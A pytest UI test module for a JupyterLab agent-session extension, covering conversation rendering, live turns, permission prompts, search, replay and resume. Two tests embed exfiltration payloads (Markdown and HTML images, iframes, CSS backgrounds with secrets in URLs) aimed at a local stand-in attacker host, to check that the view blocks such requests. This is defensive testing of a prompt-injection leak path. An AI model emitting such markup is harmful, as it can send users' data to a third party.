"""Conversations in JupyterLab (real server, real headless Chromium, the fake agent CLIs):
a resume that cannot work is shown with the CLI's reason and an offer of a fresh session
in the same folder (which opens with the old transcript's end), and an agent's
conversation opens as a rendered Markdown document.

The server, browser and helpers are tests/test_ui.py's (this module gets a server of its
own, whose archive follows quickly). Screenshots go to ``tests/artifacts/ui/``.
"""

from __future__ import annotations

import json
import re
import signal
import subprocess
import threading
from collections.abc import Iterator
from datetime import datetime, timezone
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import test_ui
from test_ui import (
    Lab,
    act,
    dismiss_dialogs,
    open_lab,
    row,
    running_lab,
    shot,
    show_panel,
    wait_notification,
    wait_status,
    wait_text,
)
from test_ui_transcripts import screen

from jupyter_agents.agents.archive import ConversationArchive
from jupyter_agents.pytest_plugin import poll

page = test_ui.page
jp_asyncio_loop = test_ui.jp_asyncio_loop
jp_server_cleanup = test_ui.jp_server_cleanup

pytestmark = [pytest.mark.ui, pytest.mark.timeout(240)]


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    def prepare(lab: Lab) -> None:
        lab.server.extra_args.append("--AgentsApp.refresh_interval=0.3")

    with running_lab(tmp_path_factory.mktemp("ui-conversations"), prepare) as lab:
        yield lab


def talked(lab: Lab, words: str) -> tuple[dict[str, Any], Path]:
    """A claude session (through REST) that got ``words``; returns once the archive
    holds its conversation file (and that file)."""
    status, agent = lab.server.request(
        "POST", "/api/agents/sessions", {"kind": "claude", "cwd": str(lab.work)}
    )
    assert status == 201, agent
    lab.server.type_line(agent["name"], words, f"claude heard: {words}")
    archive = ConversationArchive(lab.state_dir)

    def whole() -> Path | None:
        kept = archive.index(agent["id"]).kept()
        if not kept:
            return None
        source, copy = Path(kept[0].source), archive.folder(agent["id"]) / kept[0].name
        same = source.exists() and copy.exists() and copy.read_bytes() == source.read_bytes()
        return source if same else None

    return agent, poll(whole, timeout=30, what="the archive to hold the conversation")


def open_conversation(lab: Lab, page: Any, agent: dict[str, Any]) -> Any:
    """Open ``agent``'s conversation from its panel row on a fresh Lab page; its
    document's view, once the heading shows."""
    open_lab(page, lab, reset=True)
    show_panel(page)
    act(page, agent["id"], "conversation")
    doc = page.locator(
        f".jp-AgentsConversationDocument .jp-AgentsConversation[data-session-id='{agent['id']}']"
    )
    doc.locator("h1").wait_for()
    return doc


def test_a_conversation_opens_as_a_document(lab: Lab, page: Any) -> None:
    agent, _ = talked(lab, "show-me-as-markdown")
    doc = open_conversation(lab, page, agent)
    assert f"claude session {agent['name']}" in doc.locator("h1").inner_text()
    assert "show-me-as-markdown" in doc.locator("blockquote").first.inner_text()
    tool = doc.locator("li", has_text="Tool call")
    assert "Bash" in tool.first.inner_text() and "echo fake" in tool.first.inner_text()
    assert doc.locator("li code", has_text="echo fake").count() >= 1  # rendered, not raw
    assert "claude heard: show-me-as-markdown" in doc.inner_text()
    tab = page.locator(".lm-TabBar-tab", has_text="Conversation:")
    assert tab.count() == 1
    shot(page, "conversation-document")


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A web server on 127.0.0.1 that records the path of every request it gets: what
    an attacker's host would see (its address, the list of paths)."""
    got: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            got.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}", got
    finally:
        server.shutdown()
        server.server_close()


def test_a_conversation_loads_nothing_from_elsewhere(
    lab: Lab, page: Any, listener: tuple[str, list[str]]
) -> None:
    """What an agent wrote (steered by a prompt injection, say) cannot make the view
    send what it read to another host: a Markdown image, an HTML image, a video poster,
    a CSS background and an iframe with a secret in their URLs are shown as links
    naming the host, and no request reaches it; a click on one is still possible."""
    host, got = listener
    leaks = [
        f"![the chart](http://{host}/md.png?d=SECRET-1)",
        f'<img src="http://{host}/img.png?d=SECRET-2" alt="x">',
        f'<video poster="http://{host}/poster.png?d=SECRET-3"></video>',
        f'<span style="background:url(http://{host}/css.png?d=SECRET-4)">bg</span>',
        f'<iframe src="http://{host}/frame?d=SECRET-5"></iframe>',
        f'<picture><source srcset="http://{host}/set.png?d=SECRET-6"><img alt="y"></picture>',
    ]
    agent, _ = talked(lab, " ".join(leaks))
    doc = open_conversation(lab, page, agent)
    doc.locator("blockquote").first.wait_for()  # the first turn is shown
    page.wait_for_timeout(1500)  # what would load has had its chance
    assert got == [], f"the view fetched {got}"
    blocked = doc.locator("a.jp-AgentsBlocked")
    assert doc.locator("img, video, iframe, source, picture").count() == 0
    shown = blocked.all_inner_texts()
    assert f"image: the chart ({host})" in shown, shown
    assert sum(host in text for text in shown) >= 4, shown
    assert blocked.first.get_attribute("href") == f"http://{host}/md.png?d=SECRET-1"
    assert "background" not in (
        doc.locator("span", has_text="bg").first.get_attribute("style") or ""
    )
    shot(page, "conversation-remote-blocked")


def test_a_resume_that_cannot_work_says_why_and_offers_a_fresh_session(lab: Lab, page: Any) -> None:
    agent, source = talked(lab, "words-that-cannot-come-back")
    # the machine reboots; the CLI's file and the archived copy are both gone
    lab.restart(signal.SIGKILL, kill_backend=True)
    source.unlink()
    archive = ConversationArchive(lab.state_dir)
    (archive.folder(agent["id"]) / archive.index(agent["id"]).kept()[0].name).unlink()

    open_lab(page, lab, reset=True)
    show_panel(page)
    wait_status(page, agent["id"], "interrupted")
    act(page, agent["id"], "restore")
    cid = agent["conversation_id"]
    reason = row(page, agent["id"]).locator(".jp-AgentsPanel-reason")
    reason.wait_for()
    assert f"No conversation found with session ID: {cid}" in reason.inner_text()
    wait_status(page, agent["id"], "interrupted")
    wait_notification(page, "could not be resumed")
    shot(page, "resume-failed-panel")
    model = lab.sessions()[agent["id"]]
    assert model["status"] == "interrupted" and model["conversation_id"] == cid

    before = set(lab.sessions())
    reason.locator("button[data-action='fresh']").click()
    fresh = poll(
        lambda: [s for sid, s in lab.sessions().items() if sid not in before],
        what="the fresh session",
    )[0]
    assert (fresh["kind"], fresh["cwd"], fresh["status"]) == ("claude", str(lab.work), "running")
    # its terminal opens: the old session's end, the marker line, then the new claude
    wait_text(page, rf"FAKE CLAUDE conversation {fresh['conversation_id']}")
    wait_text(page, "words-that-cannot-come-back")
    wait_text(page, rf"above: the end of session {agent['id']}")
    shot(page, "resume-failed-fresh")
    assert lab.sessions()[agent["id"]]["status"] == "interrupted"  # the old record stays


SEEN_AT = """([sid, text]) => {
  // when (Date.now(), the clock of the records' times) a row holding `text` first showed
  window.__seen = undefined;
  const view = document.querySelector(`.jp-AgentsTurns[data-session-id='${sid}']`);
  new MutationObserver((_, observer) => {
    if (view.textContent.includes(text)) { window.__seen = Date.now(); observer.disconnect(); }
  }).observe(view, {subtree: true, childList: true, characterData: true});
}"""


def test_turns_show_live_folded_and_load_nothing_from_elsewhere(
    lab: Lab, page: Any, listener: tuple[str, list[str]]
) -> None:
    """Issue 56: an agent's turns in a tab of their own: the prompt, the tool call folded
    to one line (opened on click: its output), the answer rendered; what the agent does
    next shows without a reload (the server's ``turns`` event), and what it wrote that
    would load something from elsewhere shows as a link naming the host, no request made."""
    host, got = listener
    agent, source = talked(lab, "watch-me-live")
    sid = agent["id"]
    open_lab(page, lab, reset=True)
    page.set_viewport_size({"width": 1400, "height": 900})
    show_panel(page)
    act(page, sid, "open")
    test_ui.wait_current_terminal(page, agent["name"], "its terminal")
    act(page, sid, "turns")  # from the row's menu: beside the terminal
    view = page.locator(f".jp-AgentsTurns[data-session-id='{sid}']")
    view.wait_for()
    assert page.locator(".jp-Terminal").first.is_visible()  # both at once
    beside = page.evaluate(
        """() => { const t = document.querySelector('.jp-Terminal').getBoundingClientRect();
        const v = document.querySelector('.jp-AgentsTurns').getBoundingClientRect();
        return v.left >= t.right - 1; }"""
    )
    assert beside, "the turns are not to the right of the terminal"
    answer = "claude heard: watch-me-live"
    view.locator(".jp-AgentsTurns-row[data-type='agent_message']", has_text=answer).wait_for()
    prompt = view.locator(".jp-AgentsTurns-row[data-type='user_message']").first
    assert prompt.inner_text().splitlines()[-1] == "watch-me-live"
    call = view.locator(".jp-AgentsTurns-row[data-type='tool_call'] details").first
    assert "Bash: echo fake" in call.locator("summary").inner_text()
    assert call.get_attribute("data-status") == "completed"
    assert not call.locator(".jp-AgentsTurns-output").is_visible()  # folded
    call.locator("summary").click()
    assert call.locator(".jp-AgentsTurns-output").inner_text() == "fake"
    assert "echo fake" in call.locator(".jp-AgentsTurns-input").inner_text()
    shot(page, "turns-1400x900")

    # the next turn, and a hostile record, with no reload
    page.evaluate(SEEN_AT, [sid, "claude heard: and-live-too"])
    lab.server.type_line(agent["name"], "and-live-too", "claude heard: and-live-too")
    view.locator(".jp-AgentsTurns-row", has_text="claude heard: and-live-too").wait_for()
    status, page_of = lab.server.request("GET", f"/api/agents/sessions/{sid}/turns")
    assert status == 200
    written = next(
        e["at"] for e in page_of["events"] if e.get("text") == "claude heard: and-live-too"
    )
    seen = page.evaluate("() => window.__seen")

    lag = seen / 1000 - datetime.fromisoformat(written.replace("Z", "+00:00")).timestamp()
    print(f"turns: on screen {lag * 1000:.0f} ms after the CLI wrote the record")
    leak = f"![the chart](http://{host}/turns.png?d=SECRET-T)"
    with source.open("a") as f:
        f.write(json.dumps({"type": "assistant", "message": {"content": leak}}) + "\n")
    shown = view.locator(".jp-AgentsTurns-row[data-type='agent_message']", has_text=host)
    shown.wait_for()
    assert "the chart" in shown.inner_text()
    assert not got, got

    # on a phone: the turns alone, a tool call opened, nothing wider than the screen
    phone = page.context.new_page()
    try:
        phone.set_viewport_size({"width": 360, "height": 740})
        open_lab(phone, lab, reset=True)
        phone.evaluate(
            "id => window.jupyterapp.commands.execute('jupyter-agents:turns', {id})", sid
        )
        small = phone.locator(f".jp-AgentsTurns[data-session-id='{sid}']")
        small.locator(".jp-AgentsTurns-row", has_text="claude heard: and-live-too").wait_for()
        small.locator(".jp-AgentsTurns-row[data-type='tool_call'] summary").last.click()
        assert phone.evaluate("() => document.documentElement.scrollWidth") <= 360
        box = small.bounding_box()
        assert box and box["x"] >= 0 and box["x"] + box["width"] <= 360, box
        shot(phone, "turns-360x740")
    finally:
        phone.close()


def drawn_ids(page: Any, sid: str) -> list[str]:
    """The event ids of the rows a turns view shows, in order."""
    return list(
        page.evaluate(
            """(sid) => Array.from(document.querySelectorAll(
                 `.jp-AgentsTurns[data-session-id='${sid}'] .jp-AgentsTurns-row`
               )).map(r => r.dataset.id)""",
            sid,
        )
    )


#: a page script that logs each focus change and toggle from then on in ``window.focusLog``:
#: the event, its target, the time, and the top of the stack that caused it
FOCUS_LOG = """() => {
  window.focusLog = [];
  const log = e => window.focusLog.push([
    e.type, (e.target.outerHTML || String(e.target)).slice(0, 80), Math.round(performance.now()),
    (new Error().stack || '').split('\\n').slice(2, 8).map(s => s.trim()).join(' < ')]);
  for (const type of ['focusin', 'focusout', 'keydown', 'mousedown', 'toggle']) {
    document.addEventListener(type, log, true);
  }
  for (const d of document.querySelectorAll('.jp-Dialog')) {
    window.focusLog.push(['dialog open', d.innerText.slice(0, 300), 0, '']);
  }
  new MutationObserver(changes => { for (const c of changes) { for (const n of c.addedNodes) {
    if (n.classList && n.classList.contains('jp-Dialog')) {
      const at = Math.round(performance.now());
      window.focusLog.push(['dialog', n.innerText.slice(0, 300), at, '']);
    } } } }).observe(document.body, {childList: true});
}"""


def test_turns_answer_search_jump_to_the_replay_and_survive_a_restart(lab: Lab, page: Any) -> None:
    """Issue 56: from the terminal tab's toolbar the turns open beside it; the agent's
    permission request is answered in them (the CLI's own choices, nothing typed); a
    search steps through the rows holding a text, opening a folded tool call; a turn's
    time opens the terminal's replay paused there; a turn taken while no server ran
    shows once the server is back, and the view then goes on with no row twice."""
    agent, source = talked(lab, "first-words")
    sid, name = agent["id"], agent["name"]
    # the page's event stream, which the test holds closed for a while below (routed
    # from the page's load: playwright routes the sockets of a page loaded after)
    held, refused, sockets = [False], [], []

    def stream(ws: Any) -> None:
        if held[0]:
            refused.append(ws.url)
            ws.close()
        else:
            sockets.append(ws)
            ws.connect_to_server()

    page.route_web_socket(re.compile(r"/api/events/subscribe"), stream)
    open_lab(page, lab, reset=True)
    page.set_viewport_size({"width": 1400, "height": 900})
    show_panel(page)
    act(page, sid, "open")
    test_ui.wait_current_terminal(page, name, "its terminal")
    page.locator(".jp-AgentsTurns-terminalButton:visible").click()  # its tab's toolbar
    view = page.locator(f".jp-AgentsTurns[data-session-id='{sid}']")
    view.locator(".jp-AgentsTurns-row", has_text="claude heard: first-words").wait_for()

    # the request, answered in the view
    client = lab.server.ws(name)
    client.stdin("/perm\r")
    ask = view.locator(".jp-AgentsTurns-ask")
    ask.wait_for()
    assert ask.locator(".jp-AgentsPanel-requestWhat").inner_text() == "echo fake"
    labels = ask.locator("button").all_inner_texts()
    assert labels == ["Allow", "Allow Bash(echo:*) for this session", "Deny…"], labels
    shot(page, "turns-permission-1400x900")
    ask.locator("button[data-action='allow']").click()
    client.wait_for("Allowed by PermissionRequest hook")
    client.wait_for("claude heard: /perm")
    ask.wait_for(state="detached")
    view.locator(".jp-AgentsTurns-row", has_text="claude heard: /perm").wait_for()

    # the search: two rows hold the words; Enter steps to each
    box = page.locator(".jp-AgentsTurns-searchInput")
    count = page.locator(".jp-AgentsTurns-searchCount")
    box.fill("first-words")
    assert count.inner_text() == "2 found"
    box.press("Enter")
    assert count.inner_text() == "1 of 2"
    current = view.locator(".jp-AgentsTurns-row.jp-mod-current")
    assert current.get_attribute("data-type") == "user_message"
    box.press("Enter")
    assert count.inner_text() == "2 of 2"
    assert "claude heard: first-words" in current.inner_text()
    box.fill("fake")  # the tool call's output: in a folded row
    box.press("Enter")
    assert current.get_attribute("data-type") == "tool_call"
    assert current.locator("details").evaluate("d => d.open")
    assert current.locator(".jp-AgentsTurns-output").inner_text() == "fake"
    shot(page, "turns-search-1400x900")
    box.press("Escape")
    assert view.locator(".jp-mod-match").count() == 0

    # a turn's time: the replay, paused there (before anything later was typed)
    first = view.locator(".jp-AgentsTurns-row[data-type='user_message']").first
    first.locator("button[data-action='replay']").click()
    page.locator(f".jp-AgentsReplay[data-session-id='{sid}'][data-state='paused']").wait_for()
    poll(lambda: "first-words" in screen(page, sid), what="the prompt on the replay's screen")
    assert "/perm" not in screen(page, sid)
    shot(page, "turns-replay-1400x900")
    client.close()

    page.evaluate("id => window.jupyterapp.shell.activateById(id)", f"jupyter-agents-turns-{sid}")

    # a turn taken while no server runs (typed into tmux), then the server back
    lab.server.stop(signal.SIGTERM)
    socket = lab.state_dir / "tmux" / "socket"
    subprocess.run(
        ["tmux", "-S", str(socket), "send-keys", "-t", f"={sid}:", "while-down", "Enter"],
        check=True,
    )
    poll(lambda: "claude heard: while-down" in source.read_text(), what="the record written")
    lab.server.start()
    view.locator(".jp-AgentsTurns-row", has_text="claude heard: while-down").wait_for(timeout=40000)
    # the page's event stream drops (a network blip; the same server) and cannot open
    # again for a while: a turn taken meanwhile, whose event never reaches the page,
    # shows once the stream is back
    held[0] = True
    sockets[-1].close()
    lab.server.type_line(name, "during-blip", "claude heard: during-blip")
    poll(lambda: "claude heard: during-blip" in source.read_text(), what="its record")
    # (a call into the page lets playwright route its retries)
    poll(lambda: page.evaluate("() => true") and refused, what="the stream held closed")
    held[0] = False
    view.locator(".jp-AgentsTurns-row", has_text="claude heard: during-blip").wait_for(
        timeout=40000
    )
    lab.server.type_line(name, "after-restart", "claude heard: after-restart")
    view.locator(".jp-AgentsTurns-row", has_text="claude heard: after-restart").wait_for()
    page.unroute_all()
    # JupyterLab's own "Server Connection Error" dialog, if a request of the page failed
    # while the server was down: modal, it holds the focus, and the Enter below meant
    # for the edit's fold would close it instead (issue 53's ledger)
    dismiss_dialogs(page)
    ids = drawn_ids(page, sid)
    assert len(ids) == len(set(ids)), ids
    said = view.locator(".jp-AgentsTurns-row[data-type='user_message']").all_inner_texts()
    assert [s.splitlines()[-1] for s in said] == [
        "first-words",
        "/perm",
        "while-down",
        "during-blip",
        "after-restart",
    ], said

    # an edit's call shows as the lines it takes out and puts in
    edit = {
        "file_path": str(lab.work / "a.py"),
        "old_string": "x = 1\ny = 2",
        "new_string": "x = 3",
    }
    use = {"type": "tool_use", "id": "edit-1", "name": "Edit", "input": edit}
    with source.open("a") as f:
        now_iso = datetime.now(timezone.utc).isoformat()  # as Claude's records have it
        record = {"type": "assistant", "timestamp": now_iso, "message": {"content": [use]}}
        f.write(json.dumps(record) + "\n")
    change = view.locator(".jp-AgentsTurns-row[data-type='tool_call']", has_text="a.py").last
    page.evaluate(FOCUS_LOG)  # what moves the focus meanwhile, and from where
    change.locator("summary").press("Enter")  # by keyboard (a notification may cover it)
    # (a closed fold's lines read as '': the ledger's row of 12-07 says which it was)
    if not change.locator("details").evaluate("d => d.open"):
        seen = page.evaluate(
            "() => [document.activeElement?.outerHTML.slice(0, 200), document.hasFocus(),"
            " window.focusLog]"
        )
        raise AssertionError(f"the edit's fold is closed; focus, changes: {json.dumps(seen)}")
    diff = change.locator(".jp-AgentsTurns-diff")
    assert diff.locator(".jp-mod-removed").all_inner_texts() == ["- x = 1\n", "- y = 2\n"]
    assert diff.locator(".jp-mod-added").all_inner_texts() == ["+ x = 3\n"]
    # not ended yet: pinned as the current step, with the seconds since it started
    now = view.locator(".jp-AgentsTurns-now")
    assert now.get_attribute("data-call-id") == "edit-1"
    assert re.fullmatch(r"Now: Edit: .*a\.py · \d+ s", now.inner_text()), now.inner_text()
    shot(page, "turns-edit-1400x900")
    done = {"type": "tool_result", "tool_use_id": "edit-1", "content": "edited"}
    with source.open("a") as f:
        f.write(json.dumps({"type": "user", "message": {"content": [done]}}) + "\n")
    now.wait_for(state="hidden")
    assert change.get_attribute("data-status") is None  # (the row; its fold has it)
    assert change.locator("details").get_attribute("data-status") == "completed"

    # a plan: a checklist, each entry with its status
    todos = [
        {"content": "Read the notebook", "status": "completed", "activeForm": "Reading"},
        {"content": "Fix the failing cell", "status": "in_progress", "activeForm": "Fixing"},
        {"content": "Run the tests", "status": "pending", "activeForm": "Running"},
    ]
    use = {"type": "tool_use", "id": "plan-1", "name": "TodoWrite", "input": {"todos": todos}}
    planned = {"type": "tool_result", "tool_use_id": "plan-1", "content": "Todos updated"}
    with source.open("a") as f:
        for record in (
            {"type": "assistant", "timestamp": now_iso, "message": {"content": [use]}},
            {"type": "user", "timestamp": now_iso, "message": {"content": [planned]}},
        ):
            f.write(json.dumps(record) + "\n")
    plan = view.locator(".jp-AgentsTurns-row[data-type='plan']").last
    plan.locator(".jp-AgentsTurns-entry").nth(2).wait_for()
    entries = plan.locator(".jp-AgentsTurns-entry")
    assert [entries.nth(i).get_attribute("data-status") for i in range(3)] == [
        "completed",
        "in_progress",
        "pending",
    ]
    assert entries.all_inner_texts() == [
        "☑ Read the notebook",
        "◐ Fix the failing cell",
        "☐ Run the tests",
    ]
    plan.scroll_into_view_if_needed()
    shot(page, "turns-plan-1400x900")

    # on a phone: a request in the view, and the search
    phone = page.context.new_page()
    try:
        phone.set_viewport_size({"width": 360, "height": 740})
        open_lab(phone, lab, reset=True)
        phone.evaluate(
            "id => window.jupyterapp.commands.execute('jupyter-agents:turns', {id})", sid
        )
        small = phone.locator(f".jp-AgentsTurns[data-session-id='{sid}']")
        small.locator(".jp-AgentsTurns-row", has_text="claude heard: after-restart").wait_for()
        client = lab.server.ws(name)
        client.stdin("/perm\r")
        small.locator(".jp-AgentsTurns-ask").wait_for()
        phone.locator(".jp-AgentsTurns-searchInput").fill("while-down")
        assert phone.locator(".jp-AgentsTurns-searchCount").inner_text() == "2 found"
        assert phone.evaluate("() => document.documentElement.scrollWidth") <= 360
        shot(phone, "turns-permission-360x740")
        small.locator(".jp-AgentsTurns-ask button[data-action='allow']").click()
        small.locator(".jp-AgentsTurns-ask").wait_for(state="detached")
        assert lab.server.request("GET", "/api/agents/requests")[1] == []
        client.close()
    finally:
        phone.close()


def test_a_conversation_as_a_notebook_renders_in_jupyterlab(lab: Lab, page: Any) -> None:
    """Issue 56: the conversation's ``.ipynb`` opens in JupyterLab's notebook editor:
    the prompt and the answer as rendered Markdown, the tool call as a code cell with its
    output, every cell read-only."""
    agent, _ = talked(lab, "open-me-as-a-notebook")
    status, raw = lab.server.request(
        "GET", f"/api/agents/sessions/{agent['id']}/conversation?format=ipynb"
    )
    assert status == 200, raw
    (lab.work / "conversation.ipynb").write_text(
        raw if isinstance(raw, str) else raw.decode() if isinstance(raw, bytes) else json.dumps(raw)
    )
    open_lab(page, lab, reset=True)
    page.set_viewport_size({"width": 1400, "height": 900})
    page.evaluate(
        "() => window.jupyterapp.commands.execute("
        "'docmanager:open', {path: 'conversation.ipynb', factory: 'Notebook'})"
    )
    # it names no kernel (its code cells are what the agent ran, not a kernel's): Lab asks
    page.locator(".jp-Dialog button", has_text="No Kernel").click()
    notebook = page.locator(".jp-NotebookPanel .jp-Notebook")
    prompt = notebook.locator(".jp-MarkdownCell blockquote", has_text="open-me-as-a-notebook")
    prompt.wait_for()
    assert notebook.locator(".jp-MarkdownCell strong", has_text="User").count() >= 1
    code = notebook.locator(".jp-CodeCell", has_text="echo fake").first
    assert code.locator(".jp-OutputArea-output").inner_text().strip() == "fake"
    answer = notebook.locator(".jp-MarkdownCell", has_text="claude heard: open-me-as-a-notebook")
    assert answer.count() == 1
    editable = page.evaluate(
        """() => window.jupyterapp.shell.currentWidget.content.widgets
             .map(cell => cell.model.getMetadata('editable'))"""
    )
    assert editable and all(e is False for e in editable), editable
    shot(page, "conversation-notebook-1400x900")
